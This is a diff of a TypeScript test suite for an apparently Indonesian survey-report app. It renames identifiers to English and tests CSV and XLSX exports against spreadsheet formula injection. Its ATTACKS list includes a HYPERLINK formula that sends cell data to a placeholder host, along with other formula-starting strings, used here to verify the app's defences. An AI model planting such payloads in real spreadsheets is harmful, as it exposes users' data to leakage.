@@ -7,14 +7,14 @@ import { skmFile, skmCsv } from '$lib/report/files';
 import { safeCsvText } from '$lib/import/table/csv-export';
 import { xlsxWorkbook, csvTable } from '$lib/report/sheet';
 import { buildSkmUnitReport } from '$lib/report/skm-model';
-import { bacaLembar, xmlGaya, xmlLembar } from '../../fixtures/read-xlsx';
-import { DIBUAT, inputSkm } from './demo';
+import { readSheet, xmlStyles, xmlSheet } from '../../fixtures/read-xlsx';
+import { CREATED, inputSkm } from './demo';
 
 // The app loads the whole Indonesian table before a report is built (state/laporan.ts).
 await loadLanguage('id');
 
 /** What spreadsheet users have seen attackers type into free-text fields. */
-const SERANGAN = [
+const ATTACKS = [
 	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
 	'+62 812 (nomor saya)',
 	'-2+3',
@@ -25,11 +25,11 @@ const SERANGAN = [
 	'＝1+1'
 ];
 
-const bacaCsv = (teks: string) => parseCsv(teks).rows.map((r) => r.cells);
+const readCsv = (teks: string) => parseCsv(teks).rows.map((r) => r.cells);
 
 describe('formula injection from free text', () => {
 	it('gets an apostrophe in CSV, so Excel shows the text instead of running it', () => {
-		for (const s of SERANGAN) {
+		for (const s of ATTACKS) {
 			expect(safeCsvText(s)).toBe(`'${s}`);
 			expect(FORMULA_START.test(safeCsvText(s))).toBe(false);
 		}
@@ -37,15 +37,13 @@ describe('formula injection from free text', () => {
 	});
 
 	it('stays text in XLSX, unchanged, with the quote prefix Excel keeps when the cell is edited', () => {
-		const isi = xlsxWorkbook([
-			{ nama: 'Saran', kolom: ['saran'], baris: SERANGAN.map((s) => [s]) }
-		]);
-		const lembar = bacaLembar(isi, 'Saran');
-		expect(lembar.rows.map((r) => r.cells[0])).toEqual(SERANGAN);
-		const [xml] = xmlLembar(isi);
+		const isi = xlsxWorkbook([{ nama: 'Saran', kolom: ['saran'], baris: ATTACKS.map((s) => [s]) }]);
+		const lembar = readSheet(isi, 'Saran');
+		expect(lembar.rows.map((r) => r.cells[0])).toEqual(ATTACKS);
+		const [xml] = xmlSheet(isi);
 		expect(xml).not.toMatch(/<f[\s>]/);
 		const gaya = /s="(\d+)"[^>]*t="inlineStr"/.exec(xml!.split('<row r="2">')[1]!)?.[1];
-		const xfs = xmlGaya(isi)
+		const xfs = xmlStyles(isi)
 			.split('<cellXfs')[1]!
 			.match(/<xf [^>]*\/>/g)!;
 		expect(xfs[Number(gaya)]).toContain('quotePrefix="1"');
@@ -55,16 +53,16 @@ describe('formula injection from free text', () => {
 		const input = inputSkm('2026-TW2');
 		const target = input.responses.find((r) => r.saran)!;
 		const responses = input.responses.map((r, i) =>
-			r.unitId === target.unitId && i % 2 === 0 ? { ...r, saran: SERANGAN[i % SERANGAN.length] } : r
+			r.unitId === target.unitId && i % 2 === 0 ? { ...r, saran: ATTACKS[i % ATTACKS.length] } : r
 		);
 		const laporan = buildSkmUnitReport({ ...input, responses }, target.unitId)!;
 		const ditulis = laporan.unit[0]!.saran.map((s) => s.teks);
 		expect(ditulis.some((s) => FORMULA_START.test(s))).toBe(true);
 
-		const xlsx = skmFile(laporan, 'xlsx', { locale: 'id', dibuat: DIBUAT }).isi;
-		const saran = bacaLembar(xlsx, 'Saran');
+		const xlsx = skmFile(laporan, 'xlsx', { locale: 'id', dibuat: CREATED }).isi;
+		const saran = readSheet(xlsx, 'Saran');
 		expect(saran.rows.map((r) => r.cells[saran.kolom('Saran')])).toEqual(ditulis);
-		for (const xml of xmlLembar(xlsx)) expect(xml).not.toMatch(/<f[\s>]/);
+		for (const xml of xmlSheet(xlsx)) expect(xml).not.toMatch(/<f[\s>]/);
 	});
 
 	it('any text survives the CSV round trip and never starts a formula', () => {
@@ -77,7 +75,7 @@ describe('formula injection from free text', () => {
 						kolom: ['a', 'b'],
 						baris: teks.map((t) => [t, 'akhir'])
 					});
-					const baris = bacaCsv(csv);
+					const baris = readCsv(csv);
 					expect(baris).toHaveLength(teks.length);
 					baris.forEach((cells, i) => {
 						const asli = teks[i]!;
@@ -97,9 +95,9 @@ describe('formula injection from free text', () => {
 					const isi = xlsxWorkbook([
 						{ nama: 'x', kolom: ['a', 'b'], baris: teks.map((t) => [t, 'akhir']) }
 					]);
-					const lembar = bacaLembar(isi, 'x');
+					const lembar = readSheet(isi, 'x');
 					expect(lembar.rows.map((r) => r.cells[0])).toEqual(teks.map((t) => t));
-					expect(xmlLembar(isi)[0]).not.toMatch(/<f[\s>]/);
+					expect(xmlSheet(isi)[0]).not.toMatch(/<f[\s>]/);
 				}
 			),
 			{ numRuns: 60 }
@@ -117,7 +115,7 @@ describe('formula injection from free text', () => {
 				]
 			]
 		});
-		expect(bacaCsv(csv)).toEqual([['-2', '84,27']]);
+		expect(readCsv(csv)).toEqual([['-2', '84,27']]);
 		const isi = skmCsv(buildSkmUnitReport(inputSkm('2026-TW2'), 'demo-dinkes')!, 'id').isi;
 		expect(new TextDecoder().decode(isi)).not.toMatch(/;'-?\d/);
 	});
